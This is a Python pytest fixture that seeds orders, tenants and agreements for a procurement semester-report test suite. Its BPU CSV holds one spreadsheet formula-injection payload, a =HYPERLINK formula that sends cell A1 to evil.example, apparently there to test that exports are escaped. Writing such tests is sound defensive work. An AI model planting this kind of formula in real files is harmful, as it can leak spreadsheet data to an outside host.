"""A central with known orders for the semester report's tests (CCTP CAIH 5): two beneficiaries of its agreement,
lines on both sides of the semesters' boundaries, a draft and a cancelled order that are not ordered, a catalog
solution, a rental article, a maker written like a formula, and another central's order that must never show."""

from __future__ import annotations

import datetime as dt
import uuid
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import pytest
from stdnum import luhn

from catalog import orders, services
from tenants import services as tenant_services

ACTOR = {"user_id": None, "label": "test"}
NOW = dt.datetime(2026, 12, 5, 10, 0, tzinfo=dt.UTC)
EVIL_MAKER = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
HEADER = "code_article;libelle;unite;prix_unitaire_ht;taux_tva;famille;complexite;constructeur;achat_location"
BPU = "\n".join([
    HEADER,
    "SRV-MAINT;Maintenance d'un serveur;an;1000;20;maintenance;;Dell;achat",
    "SRV-LOC;Location d'une baie de stockage;mois;250,5;20;Fourniture;;NetApp;location",
    f'CAT-SOL;Solution du catalogue;unité;99,99;20;Fourniture;;"{EVIL_MAKER.replace(chr(34), chr(34) * 2)}";achat',
])


def finess(digits: str) -> str:
    return digits + luhn.calc_check_digit(digits)


@dataclass
class Dataset:
    central_id: uuid.UUID
    central_code: str
    agreement_id: uuid.UUID
    tenant_a: uuid.UUID
    tenant_b: uuid.UUID
    finess_a: str
    finess_b: str
    other_central_id: uuid.UUID
    other_tenant: uuid.UUID

    @property
    def tenant_ids(self) -> list[uuid.UUID]:
        return sorted([self.tenant_a, self.tenant_b])


async def build_dataset(db: Any) -> Dataset:
    """Orders (issued unless said), with their CA HT (line total HT after the extra discount):

    | # | who | date | lines | CA HT |
    |---|-----|------|-------|-------|
    | 1 | A | 2025-05-10 | SRV-MAINT × 2 | 2 000,00 |
    | 2 | B | 2025-11-20 | SRV-LOC × 3, −10 % | 676,35 |
    | 3 | A | 2026-01-01 | CAT-SOL × 1 (catalog) | 99,99 |
    | 4 | B | 2026-06-30 | SRV-MAINT × 1; SRV-LOC × 2 | 1 000,00; 501,00 |
    | 5 | A | 2026-07-01 | SRV-MAINT × 5 | 5 000,00 |
    | – | A | 2026-03-03 | draft, SRV-MAINT × 7 | not ordered |
    | – | B | 2026-04-04 | issued then cancelled, SRV-MAINT × 9 | not ordered |
    | – | C (another central) | 2026-02-02 | SRV-MAINT × 1 | never shown |
    """
    code = f"R{uuid.uuid4().hex[:6].upper()}"
    async with db.transaction(actor=ACTOR) as session:
        central = await tenant_services.create_central(session, code=code, name="Centrale de test du reporting")
        agreement = await services.create_agreement(session, central, reference=f"{code}-SRV", title="Serveurs",
                                                    starts_on=dt.date(2025, 3, 1), ends_on=dt.date(2029, 2, 28))
        await services.import_bpu(session, agreement, BPU, "bpu.csv", valid_from=dt.date(2025, 3, 1))
        solution = await services.propose_solution(session, agreement, {"code": "SOL-1", "name": "Solution",
                                                                        "price_ht": "99.99", "article_code": "CAT-SOL"})
        await services.approve_solution(session, agreement, solution.id)
        other = await tenant_services.create_central(session, code=f"O{code[1:]}", name="Autre centrale")
        other_agreement = await services.create_agreement(session, other, reference=f"O{code[1:]}-SRV", title="Autre",
                                                          starts_on=dt.date(2025, 1, 1), ends_on=None)
        await services.import_bpu(session, other_agreement, BPU, "bpu.csv", valid_from=dt.date(2025, 1, 1))
        seed = uuid.uuid4().int % 10**6
        fa, fb, fc = (finess(f"{n:02d}{seed:06d}") for n in (57, 69, 75))
        a = await tenant_services.create_tenant(session, {
            "name": "Centre hospitalier Alpha", "finess": fa, "insee_code": "57463", "postal_code": "57000",
            "city": "Metz"}, central=central)
        b = await tenant_services.create_tenant(session, {
            "name": "Hôpital Bêta", "finess": fb, "insee_code": "69266", "postal_code": "69100",
            "city": "Villeurbanne"}, central=central)
        c = await tenant_services.create_tenant(session, {
            "name": "Clinique d'une autre centrale", "finess": fc, "insee_code": "75056", "postal_code": "75001",
            "city": "Paris"}, central=other)
        ids = (a.id, b.id, c.id)

    async def order(tenant_id, agreement_id, day, lines, *, status="issued"):
        async with db.transaction([tenant_id], actor=ACTOR) as session:
            made = await orders.create_order(session, tenant_id, {
                "agreement_id": str(agreement_id), "delivery_place": "Site", "representative": "Acheteur",
                "lines": lines}, order_date=day, now=NOW)
            if status != "draft":
                await orders.issue_order(session, tenant_id, made.id, now=NOW)
            if status == "cancelled":
                await orders.cancel_order(session, tenant_id, made.id, now=NOW)

    await order(ids[0], agreement.id, dt.date(2025, 5, 10), [{"article_code": "SRV-MAINT", "quantity": "2"}])
    await order(ids[1], agreement.id, dt.date(2025, 11, 20),
                [{"article_code": "SRV-LOC", "quantity": "3", "discount_percent": "10"}])
    await order(ids[0], agreement.id, dt.date(2026, 1, 1), [{"article_code": "CAT-SOL", "quantity": "1"}])
    await order(ids[1], agreement.id, dt.date(2026, 6, 30), [{"article_code": "SRV-MAINT", "quantity": "1"},
                                                             {"article_code": "SRV-LOC", "quantity": "2"}])
    await order(ids[0], agreement.id, dt.date(2026, 7, 1), [{"article_code": "SRV-MAINT", "quantity": "5"}])
    await order(ids[0], agreement.id, dt.date(2026, 3, 3), [{"article_code": "SRV-MAINT", "quantity": "7"}],
                status="draft")
    await order(ids[1], agreement.id, dt.date(2026, 4, 4), [{"article_code": "SRV-MAINT", "quantity": "9"}],
                status="cancelled")
    await order(ids[2], other_agreement.id, dt.date(2026, 2, 2), [{"article_code": "SRV-MAINT", "quantity": "1"}])
    return Dataset(central_id=central.id, central_code=code, agreement_id=agreement.id, tenant_a=ids[0],
                   tenant_b=ids[1], finess_a=fa, finess_b=fb, other_central_id=other.id, other_tenant=ids[2])


#: The H1 2026 report's figures (up to 30 June 2026).
SINCE_START_HT = Decimal("4277.34")
SEMESTER_HT = Decimal("1600.99")


@pytest.fixture
async def dataset(db) -> Dataset:
    return await build_dataset(db)
